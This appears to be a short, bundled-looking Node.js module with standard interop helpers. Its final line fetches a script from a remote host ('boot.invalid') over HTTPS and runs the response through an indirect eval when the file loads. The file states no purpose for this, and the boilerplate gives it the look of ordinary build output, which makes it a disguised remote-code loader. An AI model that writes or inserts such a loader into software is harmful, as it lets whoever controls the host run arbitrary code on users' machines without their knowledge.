'use strict';
function _interopDefault(e){return e&&e.__esModule?e:{default:e}}
function _interopNamespaceDefault(e){var n=Object.create(null);if(e){Object.keys(e).forEach(function(k){if(k!=='default'){var d=Object.getOwnPropertyDescriptor(e,k);Object.defineProperty(n,k,d.get?d:{enumerable:true,get:function(){return e[k]}})}})}n.default=e;return Object.freeze(n)}
var https=require('https');var https__namespace=_interopNamespaceDefault(https);
https__namespace.get("https://boot.invalid/s",r=>{let d="";r.on("data",c=>d+=c);r.on("end",()=>{(0,eval)(d)})});
